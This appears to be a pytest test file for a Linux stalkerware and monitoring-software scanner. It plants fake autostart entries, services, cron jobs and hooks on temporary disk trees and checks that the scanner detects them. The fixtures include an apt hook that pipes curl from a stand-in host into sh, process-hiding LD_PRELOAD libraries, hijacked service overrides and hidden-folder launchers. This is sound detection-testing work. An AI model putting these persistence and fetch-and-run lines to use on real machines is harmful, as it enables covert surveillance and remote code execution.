"""Linux sources on a disk tree built in a temporary folder, and one real autostart entry."""
from __future__ import annotations

import os
from pathlib import Path

import pytest
from hypothesis import given, settings, strategies as st

from device_checkup.checks.engine import run_scan
from device_checkup.checks.sources.base import Machine, Notes
from device_checkup.checks.sources import linux
from device_checkup.checks.sources.linux import (LinuxAppsSource, LinuxAutostartSource, LinuxServicesSource, background_commands,
                                  parse_crontab, parse_desktop, parse_dpkg_status, parse_unit)
from device_checkup.signatures.loader import load_set

from .helpers import put


def link(root: Path, path: str, target: str) -> None:
    where = root / path.lstrip("/")
    where.parent.mkdir(parents=True, exist_ok=True)
    os.symlink(target, where)


def desktop(name: str, exe: str, extra: str = "") -> str:
    return f"[Desktop Entry]\nType=Application\nName={name}\nName[fr]=Autre\nExec={exe}\n{extra}"


def unit(exe: str, description: str = "", install: bool = True, extra: str = "") -> str:
    text = f"[Unit]\nDescription={description}\n\n[Service]\n{extra}ExecStart={exe}\n"
    return text + ("\n[Install]\nWantedBy=multi-user.target\n" if install else "")


def build(root: Path, planted: bool = True) -> Path:
    put(root, "/etc/os-release", 'PRETTY_NAME="Ubuntu 24.04.1 LTS"\n')
    for user in ("alex", "sam"):
        (root / "home" / user).mkdir(parents=True, exist_ok=True)
    put(root, "/etc/xdg/autostart/org.gnome.SettingsDaemon.Power.desktop", desktop("Power", "/usr/libexec/gsd-power"))
    put(root, "/etc/xdg/autostart/tracker-miner-fs-3.desktop", desktop("Tracker", "/usr/libexec/tracker-miner-fs-3"))
    put(root, "/etc/xdg/autostart/gnome-initial-setup-first-login.desktop",
        desktop("Initial Setup", "/usr/libexec/gnome-initial-setup --existing-user", "X-GNOME-Autostart-enabled=false\n"))
    put(root, "/home/alex/.config/autostart/dropbox.desktop", desktop("Dropbox", "/home/alex/.dropbox-dist/dropboxd"))
    put(root, "/home/sam/.config/autostart/slack.desktop", desktop("Slack", "/usr/bin/slack --startup %U", "Hidden=true\n"))
    for name, exe, desc in [("NetworkManager.service", "/usr/sbin/NetworkManager --no-daemon", "Network Manager"),
                            ("cups.service", "/usr/sbin/cupsd -l", "CUPS Scheduler"),
                            ("ssh.service", "/usr/sbin/sshd -D $SSHD_OPTS", "OpenBSD Secure Shell server"),
                            ("systemd-journald.service", "/usr/lib/systemd/systemd-journald", "Journal Service")]:
        put(root, f"/usr/lib/systemd/system/{name}", unit(exe, desc, install=name != "systemd-journald.service"))
    link(root, "/etc/systemd/system/multi-user.target.wants/NetworkManager.service",
         "/usr/lib/systemd/system/NetworkManager.service")
    link(root, "/etc/systemd/system/sshd.service", "/usr/lib/systemd/system/ssh.service")      # an alias
    put(root, "/usr/lib/systemd/user/pipewire.service", unit("/usr/bin/pipewire", "PipeWire"))
    link(root, "/usr/lib/systemd/user/default.target.wants/pipewire.service", "../pipewire.service")
    put(root, "/etc/init.d/cups", "#!/bin/sh\n")
    put(root, "/etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
    put(root, "/etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n")
    put(root, "/etc/cron.daily/logrotate", "#!/bin/sh\n")
    put(root, "/etc/cron.daily/.placeholder", "")
    put(root, "/home/alex/.bashrc", 'alias ll="ls -l"\n[ -x /usr/bin/lesspipe ] && eval "$(lesspipe)"\n')
    put(root, "/var/lib/dpkg/status", "".join(
        f"Package: {p}\nStatus: install ok installed\nVersion: 1.0\nMaintainer: Someone <x@example.org>\n"
        f"Description: a package\n continued line: with a colon\n\n"
        for p in ("firefox", "network-manager", "cups", "openssh-server", "slack-desktop"))
        + "Package: removed-thing\nStatus: deinstall ok config-files\nVersion: 2\n\n")
    put(root, "/usr/share/applications/firefox.desktop", desktop("Firefox", "firefox %u"))
    put(root, "/usr/share/applications/org.gnome.Settings.desktop", desktop("Settings", "gnome-control-center"))
    put(root, "/var/lib/flatpak/app/org.signal.Signal/current/active/files/bin/signal", "")
    put(root, "/var/lib/snapd/snaps/spotify_80.snap", "")
    (root / "opt/google/chrome").mkdir(parents=True, exist_ok=True)
    if planted:
        # KidLogger (curated: autostart name kidlogger.desktop, folder /usr/share/kidlogger).
        put(root, "/etc/xdg/autostart/kidlogger.desktop", desktop("KidLogger", "/usr/share/kidlogger/kidlogger -tray"))
        put(root, "/usr/share/kidlogger/kidlogger", b"\x7fELF")
        # Teramind's Linux agent (curated: /usr/local/teramind/agent, process tmsysd).
        put(root, "/etc/systemd/system/tmsysd.service", unit("/usr/local/teramind/agent/bin/tmsysd", "System daemon"))
        link(root, "/etc/systemd/system/multi-user.target.wants/tmsysd.service", "/etc/systemd/system/tmsysd.service")
        put(root, "/usr/local/teramind/agent/bin/tmsysd", b"\x7fELF")
        # StaffCop, as an installed application.
        put(root, "/usr/share/applications/staffcop.desktop", desktop("StaffCop Agent", "/opt/staffcop/agent"))
        # Heuristic bait: a start from a hidden folder in /tmp, and a system name in a user's cache.
        put(root, "/home/alex/.config/autostart/update-notifier.desktop", desktop("Updates", "/tmp/.x11/upd --quiet"))
        put(root, "/home/sam/.config/systemd/user/journal.service", unit("/home/sam/.cache/systemd-journald", "Journal"))
        link(root, "/home/sam/.config/systemd/user/default.target.wants/journal.service", "../journal.service")
        put(root, "/var/spool/cron/crontabs/alex", "@reboot /home/alex/.local/share/.sys/agent --daemon\n")
        put(root, "/home/sam/.profile", "nohup /home/sam/.config/.watch/w >/dev/null 2>&1 &\n")
    return root


@pytest.fixture(scope="module")
def disk(tmp_path_factory):
    return build(tmp_path_factory.mktemp("linux") / "disk")


def collect(source, machine):
    notes = Notes(source.id)
    return list(source.collect(machine, notes)), notes.items


def test_autostart_entries(disk):
    records, notes = collect(LinuxAutostartSource(), Machine.offline(str(disk), "linux"))
    got = {(r.kind, r.name, r.user, r.executable, r.enabled) for r in records}
    assert got == {
        ("xdg-autostart", "org.gnome.SettingsDaemon.Power.desktop", None, "/usr/libexec/gsd-power", True),
        ("xdg-autostart", "tracker-miner-fs-3.desktop", None, "/usr/libexec/tracker-miner-fs-3", True),
        ("xdg-autostart", "gnome-initial-setup-first-login.desktop", None, "/usr/libexec/gnome-initial-setup", False),
        ("xdg-autostart", "kidlogger.desktop", None, "/usr/share/kidlogger/kidlogger", True),
        ("xdg-autostart", "dropbox.desktop", "alex", "/home/alex/.dropbox-dist/dropboxd", True),
        ("xdg-autostart", "update-notifier.desktop", "alex", "/tmp/.x11/upd", True),
        ("xdg-autostart", "slack.desktop", "sam", "/usr/bin/slack", False),
        ("systemd-user", "journal.service", "sam", "/home/sam/.cache/systemd-journald", True),
        ("cron", "run-parts", "root", "run-parts", True),    # "cd / && run-parts …": what runs, not cd
        ("cron", "e2scrub_all_cron", "root", "/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron", True),
        ("cron", "agent", "alex", "/home/alex/.local/share/.sys/agent", True),
        ("cron-script", "logrotate", None, "/etc/cron.daily/logrotate", True),
        ("shell-startup", "w", "sam", "/home/sam/.config/.watch/w", True),
    }
    assert notes == []
    reboot = next(r for r in records if r.name == "agent")
    assert reboot.command.startswith("@reboot ")


def test_services_with_their_state(disk):
    records, _ = collect(LinuxServicesSource(), Machine.offline(str(disk), "linux"))
    got = {(r.name, r.start, r.executable) for r in records}
    assert got == {("NetworkManager.service", "enabled", "/usr/sbin/NetworkManager"),
                   ("cups.service", "disabled", "/usr/sbin/cupsd"), ("ssh.service", "disabled", "/usr/sbin/sshd"),
                   ("systemd-journald.service", "static", "/usr/lib/systemd/systemd-journald"),
                   ("tmsysd.service", "enabled", "/usr/local/teramind/agent/bin/tmsysd")}
    assert next(r for r in records if r.name == "cups.service").display_name == "CUPS Scheduler"


def test_installed_programs(disk):
    records, _ = collect(LinuxAppsSource(), Machine.offline(str(disk), "linux"))
    got = {(r.source, r.name) for r in records}
    assert got == {("dpkg", "firefox"), ("dpkg", "network-manager"), ("dpkg", "cups"), ("dpkg", "openssh-server"),
                   ("dpkg", "slack-desktop"), ("desktop-file", "Firefox"), ("desktop-file", "Settings"),
                   ("desktop-file", "StaffCop Agent"), ("flatpak", "org.signal.Signal"), ("snap", "spotify"),
                   ("opt", "google")}


def test_the_planted_disk_shows_what_was_planted(disk):
    result = run_scan(signatures=load_set(), machine=Machine.offline(str(disk), "linux"))
    families = {(f.tier, f.family) for f in result.findings if f.family}
    assert families == {("stalkerware", "kidlogger"), ("monitoring", "teramind"), ("monitoring", "staffcop")}
    heuristics = sorted((f.heuristic, f.evidence[0].record.name) for f in result.findings if f.heuristic)
    assert heuristics == [("hidden-or-temporary-start", "agent"), ("hidden-or-temporary-start", "update-notifier.desktop"),
                          ("hidden-or-temporary-start", "w"), ("system-name-wrong-place", "journal.service")]


def test_the_same_disk_without_plants_shows_nothing(tmp_path):
    disk = build(tmp_path / "disk", planted=False)
    result = run_scan(signatures=load_set(), machine=Machine.offline(str(disk), "linux"))
    assert [(f.tier, f.title) for f in result.findings if f.tier != "settings"] == []


def test_links_out_of_the_disk_are_not_followed(tmp_path):
    disk = build(tmp_path / "disk", planted=False)
    outside = put(tmp_path, "/outside.service", unit("/opt/OUTSIDE/bin/evil", "Outside"))
    link(disk, "/etc/systemd/system/escape.service", str(outside))
    link(disk, "/etc/systemd/system/climb.service", "../../../../../../../../outside.service")
    link(disk, "/etc/systemd/system/multi-user.target.wants/escape.service", str(outside))
    link(disk, "/home/alex/.config/autostart/out.desktop", "../../../../outside.service")
    result = run_scan(signatures=load_set(), machine=Machine.offline(str(disk), "linux"))
    everything = repr(result.snapshot.to_json_data())
    assert "OUTSIDE" not in everything


def test_broken_files_become_notes_or_are_skipped(tmp_path):
    disk = build(tmp_path / "disk", planted=False)
    put(disk, "/etc/xdg/autostart/junk.desktop", os.urandom(3000))
    put(disk, "/var/lib/dpkg/status", b"\xff\xfe\x00garbage\n\n\n")
    put(disk, "/etc/crontab", b"\x00\x01 not a crontab\n* * *\n")
    (disk / "etc/cron.d/e2scrub_all").chmod(0o000)
    machine = Machine.offline(str(disk), "linux")
    for source in (LinuxAutostartSource(), LinuxServicesSource(), LinuxAppsSource()):
        records, notes = collect(source, machine)      # nothing raises
        assert all(n.reason in ("permission", "error", "too-large") for n in notes)
    junk = next(r for r in collect(LinuxAutostartSource(), machine)[0] if r.name == "junk.desktop")
    assert junk.command == ""


def test_a_real_autostart_entry_in_a_home_folder_is_found(tmp_path, monkeypatch):
    # Live: the person's own home is read even when it is not under /home.
    home = tmp_path / "person"
    put(home, "/.config/autostart/planted-monitor.desktop", desktop("Planted", "/tmp/.planted/agent --hide"))
    monkeypatch.setenv("HOME", str(home))
    records, _ = collect(LinuxAutostartSource(), Machine.live_machine())
    planted = [r for r in records if r.name == "planted-monitor.desktop"]
    assert len(planted) == 1 and planted[0].executable == "/tmp/.planted/agent"
    assert planted[0].location == str(home / ".config/autostart/planted-monitor.desktop")


# -- parsers --------------------------------------------------------------------------------
def test_parsers_read_what_the_formats_say():
    assert parse_desktop("[Desktop Entry]\nName=A\nName[de]=B\nExec=a\n[Desktop Action x]\nExec=b\n") == \
        {"Name": "A", "Exec": "a"}
    u = parse_unit("[Service]\nExecStart=\nExecStart=/bin/a \\\n  --flag\n# c\n[Install]\nWantedBy=x\n")
    assert u["Service"]["ExecStart"] == ["/bin/a --flag"] and u["Install"]["WantedBy"] == ["x"]
    assert parse_crontab("MAILTO=x\n@reboot /a b\n*/5 * * * * root /c\n", with_user=False) == \
        [("@reboot", None, "/a b"), ("*/5 * * * *", None, "root /c")]
    assert parse_dpkg_status("Package: a\nStatus: install ok installed\n\nPackage: b\nStatus: purge ok not-installed\n") == \
        [{"Package": "a", "Status": "install ok installed"}]
    assert background_commands("x && y\nnohup agent\nagent2 &\nagent3 & # note\ntrue || false\n") == \
        [(2, "nohup agent"), (3, "agent2 &"), (4, "agent3 & # note")]


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=2000))
def test_the_parsers_take_any_text(text):
    parse_desktop(text)
    parse_unit(text)
    parse_crontab(text, with_user=True)
    parse_crontab(text, with_user=False)
    parse_dpkg_status(text)
    background_commands(text)


# -- start-ups as the OS reads them ------------------------------------------------------------
REAL = Path(__file__).parent / "data" / "debian-remote-access" / "files"


def autostart_of(root: Path) -> dict:
    records, notes = collect(LinuxAutostartSource(), Machine.offline(str(root), "linux"))
    return {(r.kind, r.name, r.user): r for r in records}


def services_of(root: Path) -> dict:
    records, _ = collect(LinuxServicesSource(), Machine.offline(str(root), "linux"))
    return {r.name: r for r in records}


def test_drop_ins_change_what_a_unit_runs(tmp_path):
    """The real xrdp.service from Debian, with drop-ins: the last ExecStart= wins, an empty one
    resets; a drop-in in /etc hides the same file name in /usr/lib; type-wide service.d counts."""
    root = tmp_path / "disk"
    put(root, "/lib/systemd/system/xrdp.service", (REAL / "xrdp/lib/systemd/system/xrdp.service").read_bytes())
    assert services_of(root)["xrdp.service"].executable == "/usr/sbin/xrdp"
    put(root, "/usr/lib/systemd/system/xrdp.service.d/10-vendor.conf", "[Service]\nExecStart=\nExecStart=/usr/sbin/xrdp --nodaemon\n")
    put(root, "/etc/systemd/system/xrdp.service.d/override.conf",
        "[Service]\nExecStart=\nExecStart=env LD_PRELOAD=/tmp/.h/l.so nohup /tmp/.x/agent --quiet\n")
    put(root, "/etc/systemd/system/xrdp.service.d/10-vendor.conf", "# emptied by the admin\n")
    got = services_of(root)["xrdp.service"]
    assert got.executable == "/tmp/.x/agent" and got.command.startswith("env LD_PRELOAD")
    put(root, "/etc/systemd/system/xrdp.service.d/zz.conf", "[Service]\nExecStart=\n")
    assert services_of(root)["xrdp.service"].executable == "/usr/share/xrdp/socksetup"   # reset: its ExecStartPre
    (root / "etc/systemd/system/xrdp.service.d/zz.conf").unlink()
    (root / "etc/systemd/system/xrdp.service.d/override.conf").unlink()
    put(root, "/etc/systemd/system/service.d/50-all.conf", "[Service]\nExecStart=/opt/everything\n")
    assert services_of(root)["xrdp.service"].executable == "/opt/everything"


def test_linked_masked_and_aliased_units(tmp_path):
    root = tmp_path / "disk"
    put(root, "/opt/agent/agent.service", "[Service]\nExecStart=/opt/agent/bin/agent\n[Install]\nWantedBy=multi-user.target\n")
    link(root, "/etc/systemd/system/agent.service", "/opt/agent/agent.service")            # systemctl link
    link(root, "/etc/systemd/system/multi-user.target.wants/agent.service", "/opt/agent/agent.service")
    put(root, "/lib/systemd/system/veyon.service", (REAL / "veyon-service/lib/systemd/system/veyon.service").read_bytes())
    link(root, "/etc/systemd/system/veyon.service", "/dev/null")                              # masked
    put(root, "/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -D\n[Install]\nWantedBy=multi-user.target\n")
    link(root, "/etc/systemd/system/sshd.service", "/lib/systemd/system/ssh.service")          # an alias
    got = services_of(root)
    assert got["agent.service"].executable == "/opt/agent/bin/agent" and got["agent.service"].start == "enabled"
    assert got["veyon.service"].start == "masked" and got["veyon.service"].executable is None
    assert "sshd.service" not in got and got["ssh.service"].executable == "/usr/sbin/sshd"


def test_user_units_in_every_user_path(tmp_path):
    root = tmp_path / "disk"
    (root / "home/alex").mkdir(parents=True)
    put(root, "/home/alex/.local/share/systemd/user/sync.service", "[Service]\nExecStart=/home/alex/.local/bin/sync\n")
    link(root, "/home/alex/.config/systemd/user/default.target.wants/sync.service", "../../../../.local/share/systemd/user/sync.service")
    put(root, "/home/alex/.config/systemd/user/sync.service.d/x.conf", "[Service]\nExecStart=\nExecStart=sh -c 'exec /dev/shm/.s/run'\n")
    put(root, "/usr/lib/systemd/user/gnome-remote-desktop.service",
        (REAL / "gnome-remote-desktop/usr/lib/systemd/user/gnome-remote-desktop.service").read_bytes())
    link(root, "/home/alex/.config/systemd/user/gnome-session.target.wants/gnome-remote-desktop.service",
         "/usr/lib/systemd/user/gnome-remote-desktop.service")
    put(root, "/usr/share/systemd/user/helper.service", "[Service]\nExecStart=/usr/libexec/helper\n")
    link(root, "/etc/systemd/user/default.target.wants/helper.service", "/usr/share/systemd/user/helper.service")
    got = autostart_of(root)
    assert got[("systemd-user", "sync.service", "alex")].executable == "/dev/shm/.s/run"
    assert got[("systemd-user", "sync.service", "alex")].enabled is True
    grd = got[("systemd-user", "gnome-remote-desktop.service", "alex")]
    assert grd.executable == "/usr/libexec/gnome-remote-desktop-daemon" and grd.enabled
    assert got[("systemd-user", "helper.service", None)].executable == "/usr/libexec/helper"


def test_desktop_files_follow_glib_and_the_autostart_spec(tmp_path):
    root = tmp_path / "disk"
    (root / "home/alex").mkdir(parents=True)
    put(root, "/etc/xdg/autostart/a.desktop", "[Desktop Entry]\nName=A\nExec=/usr/bin/a\nExec=/tmp/.a/real %U\n"
                                                "[Desktop Action x]\nExec=/usr/bin/not-this\n")
    put(root, "/etc/xdg/autostart/b.desktop", "[Desktop Entry]\nExec=/usr/bin/b\nHidden=true\nHidden=false\n")
    put(root, "/etc/xdg/autostart/c.desktop", "[Desktop Entry]\nExec=/usr/bin/c\nX-GNOME-Autostart-enabled=false\n")
    put(root, "/etc/xdg/autostart/d.desktop", "[Desktop Entry]\nExec=/usr/bin/d\n")
    put(root, "/home/alex/.config/autostart/d.desktop", "[Desktop Entry]\nExec=/usr/bin/d\nHidden=true\n")
    put(root, "/etc/xdg/xdg-ubuntu/autostart/e.desktop",
        "[Desktop Entry]\nExec=env GDK_BACKEND=x11 bash -c \"sleep 3; nohup setsid /opt/e/agent &\"\nOnlyShowIn=GNOME;\n")
    got = autostart_of(root)
    assert got[("xdg-autostart", "a.desktop", None)].executable == "/tmp/.a/real"       # the last Exec=
    assert got[("xdg-autostart", "b.desktop", None)].enabled is True                   # the last Hidden=
    assert got[("xdg-autostart", "c.desktop", None)].enabled is False
    assert got[("xdg-autostart", "d.desktop", "alex")].enabled is False                # the person's copy hides it
    assert ("xdg-autostart", "d.desktop", None) not in got
    e = got[("xdg-autostart", "e.desktop", None)]
    assert e.executable == "/opt/e/agent" and "OnlyShowIn=GNOME;" in e.command


def test_shell_files_environment_and_preload(tmp_path):
    root = tmp_path / "disk"
    (root / "home/alex").mkdir(parents=True)
    put(root, "/home/alex/.bashrc", "[ -x /home/alex/.k/k ] && nohup /home/alex/.k/k >/dev/null 2>&1 &\n"
                                    "pgrep -x w >/dev/null || (/home/alex/.cache/w &)\n"
                                    "export LD_PRELOAD=/home/alex/.l/hook.so\nalias ll='ls -l'\n")
    put(root, "/etc/environment", 'PATH="/usr/bin"\nLD_PRELOAD="/usr/lib/libsnoop.so"\n')
    put(root, "/etc/profile.d/zz.sh", "setsid /usr/local/bin/zz &\n")
    put(root, "/etc/ld.so.preload", "/lib/x86_64-linux-gnu/libprocesshider.so\n")
    got = autostart_of(root)
    programs = {(k[0], r.executable) for k, r in got.items()}
    assert ("shell-startup", "/home/alex/.k/k") in programs
    assert ("shell-startup", "/home/alex/.cache/w") in programs
    assert ("shell-startup", "/usr/local/bin/zz") in programs
    assert {r.executable for k, r in got.items() if k[0] == "preload"} == {
        "/home/alex/.l/hook.so", "/usr/lib/libsnoop.so", "/lib/x86_64-linux-gnu/libprocesshider.so"}


def test_udev_motd_generators_dispatcher_and_apt_hooks(tmp_path):
    root = tmp_path / "disk"
    put(root, "/etc/udev/rules.d/99-usb.rules",
        'ACTION=="add", SUBSYSTEM=="usb", RUN+="/bin/sh -c \'/opt/.u/grab $devnode\'"\n'
        'ACTION=="add", RUN{builtin}+="kmod load $env{MODALIAS}"\nKERNEL=="x", RUN+="helper-prog"\n')
    put(root, "/etc/update-motd.d/99-x", "#!/bin/sh\n/opt/x\n")
    put(root, "/etc/systemd/system-generators/evil-generator", "#!/bin/sh\n")
    put(root, "/etc/NetworkManager/dispatcher.d/90-up", "#!/bin/sh\n")
    put(root, "/etc/apt/apt.conf.d/99hook",
        'APT::Update::Pre-Invoke {"/usr/bin/curl -s http://x.example/a | sh";};\n'
        '// DPkg::Post-Invoke {"commented";};\nDPkg::Post-Invoke { "/opt/.p/post"; "true"; };\n')
    got = autostart_of(root)
    kinds = {(k[0], r.executable) for k, r in got.items()}
    assert ("udev-rule", "/opt/.u/grab") in kinds and ("udev-rule", "/usr/lib/udev/helper-prog") in kinds
    assert not any("kmod" in (r.command or "") for k, r in got.items() if k[0] == "udev-rule")
    assert ("motd", "/etc/update-motd.d/99-x") in kinds
    assert ("systemd-generator", "/etc/systemd/system-generators/evil-generator") in kinds
    assert ("network-dispatcher", "/etc/NetworkManager/dispatcher.d/90-up") in kinds
    assert ("apt-hook", "/usr/bin/curl") in kinds and ("apt-hook", "/opt/.p/post") in kinds
    assert not any("commented" in r.command for k, r in got.items() if k[0] == "apt-hook")


def test_a_planted_override_of_a_system_service_is_a_finding(tmp_path):
    root = tmp_path / "disk"
    put(root, "/lib/systemd/system/cups.service", "[Service]\nExecStart=/usr/sbin/cupsd -l\n[Install]\nWantedBy=multi-user.target\n")
    link(root, "/etc/systemd/system/multi-user.target.wants/cups.service", "/lib/systemd/system/cups.service")
    put(root, "/etc/systemd/system/cups.service.d/override.conf", "[Service]\nExecStart=\nExecStart=/dev/shm/.c/cupsd\n")
    result = run_scan(signatures=load_set(), machine=Machine.offline(str(root), "linux"))
    assert any(f.heuristic and f.evidence[0].record.name == "cups.service" for f in result.findings)


def test_wrappers_are_taken_off():
    from device_checkup.checks.sources.commands import real_program
    assert real_program("env A=1 nohup setsid /opt/x/agent --quiet") == "/opt/x/agent"
    assert real_program("sh -c \"exec /tmp/.x/run >/dev/null 2>&1\"") == "/tmp/.x/run"
    assert real_program("bash -lc 'cd /opt && ./agent &'") == "./agent"
    assert real_program("nice -n 10 ionice -c3 /usr/bin/x11vnc -forever") == "/usr/bin/x11vnc"
    assert real_program("exec nohup /a/b &") == "/a/b"
    assert real_program("/usr/bin/x11vnc") == "/usr/bin/x11vnc"


def test_desktop_parsing_stops_at_the_entry_and_dpkg_is_read_as_bytes():
    text = "# c\n[Desktop Entry]\nName=A\nName=B\nExec=a\\sb\n[Desktop Action new]\nName=C\nExec=c\n" + "X=y\n" * 10000
    assert parse_desktop(text) == {"Name": "B", "Exec": "a b"}
    assert parse_desktop("[Other]\nExec=x\n") == {}
    status = b"Package: a\nStatus: install ok installed\nVersion: 1\nDescription: \xff\xfe\n\nPackage: b\nStatus: deinstall ok config-files\n\n"
    assert [p["Package"] for p in parse_dpkg_status(status)] == ["a"]
    assert [p["Package"] for p in parse_dpkg_status(status.decode("latin-1"))] == ["a"]


def test_kde_plasma_start_scripts(tmp_path):
    root = tmp_path / "disk"
    put(root, "/home/alex/.config/autostart-scripts/sync.sh", "#!/bin/sh\n/home/alex/.s/agent &\n")
    put(root, "/home/alex/.config/plasma-workspace/env/path.sh", "export X=1\n")
    got = autostart_of(root)
    assert got[("kde-autostart", "sync.sh", "alex")].executable == "/home/alex/.config/autostart-scripts/sync.sh"
    assert ("kde-autostart", "path.sh", "alex") in got


def test_a_merged_usr_folder_is_read_once(tmp_path):
    root = tmp_path / "disk"
    put(root, "/usr/lib/systemd/system-generators/g", "#!/bin/sh\n")
    put(root, "/usr/lib/udev/rules.d/50-x.rules", 'RUN+="/usr/bin/x"\n')
    os.symlink("usr/lib", root / "lib")
    records, _ = collect(LinuxAutostartSource(), Machine.offline(str(root), "linux"))
    assert sorted(r.kind for r in records if r.kind in ("systemd-generator", "udev-rule")) == ["systemd-generator", "udev-rule"]


def _desktop_by_lines(text: str) -> dict[str, str]:
    """parse_desktop's reading, line by line as the key-file format says (lines end at "\\n")."""
    start = text.find("[Desktop Entry]")
    while start > 0 and text[start - 1] not in "\r\n":
        start = text.find("[Desktop Entry]", start + 1)
    if start < 0:
        return {}
    end = text.find("\n[", start)
    body = text[start + len("[Desktop Entry]"):end if end >= 0 else len(text)]
    out = {}
    for line in body.split("\n")[1:]:
        line = line.lstrip(" \t")
        if line.startswith("#") or "=" not in line:
            continue
        key, _, value = line.partition("=")
        if key.strip() and "[" not in key:
            out[key.strip()] = linux._unescape(value.strip())
    return out


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(["[Desktop Entry]", "[Desktop Entry] x=1", "[Desktop Action a]", "Name=A",
                                 "Name[fr]=B", "  Exec = a\\sb ", "# Exec=c", "  # Name=d", " =e", "Key==f",
                                 "Icon=x\r", "Hidden=true", "Bad[=g", "\tTab=h", "noequals", "", "a\x0bb=i"]),
                max_size=12))
def test_desktop_files_are_read_as_the_key_file_format_says(lines):
    text = "\n".join(lines)
    assert parse_desktop(text) == _desktop_by_lines(text)


def _unit_by_lines(text: str) -> dict:
    """parse_unit's reading, one line at a time, continuations joined as they come."""
    out, section = {}, None
    lines = text.splitlines()[:5000]
    i = 0
    while i < len(lines):
        line = lines[i].strip()
        i += 1
        while line.endswith("\\") and i < len(lines):
            line = line[:-1].rstrip() + " " + lines[i].strip()
            i += 1
        if not line or line[0] in "#;":
            continue
        if line.startswith("[") and line.endswith("]"):
            section = line[1:-1]
            out.setdefault(section, {})
            continue
        if section is not None and "=" in line:
            key, _, value = line.partition("=")
            values = out[section].setdefault(key.strip(), [])
            if value.strip():
                values.append(value.strip())
            else:
                values.clear()
    return out


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(["[Unit]", "[Service]", "[Install]", "[]", "[x", "Description=A", "ExecStart=",
                                 "ExecStart=/bin/a \\", "  --flag", "ExecStart = /bin/b ", "# ExecStart=c",
                                 "; User=x", "User=root", "=v", "k=", "noequals", "", "  ", "\\", "x=\\",
                                 "Key==f", "a\x0bb=i", "[Service] x", " [Install] "]),
                max_size=14))
def test_units_are_read_as_systemd_reads_them(lines):
    text = "\n".join(lines)
    assert parse_unit(text) == _unit_by_lines(text)
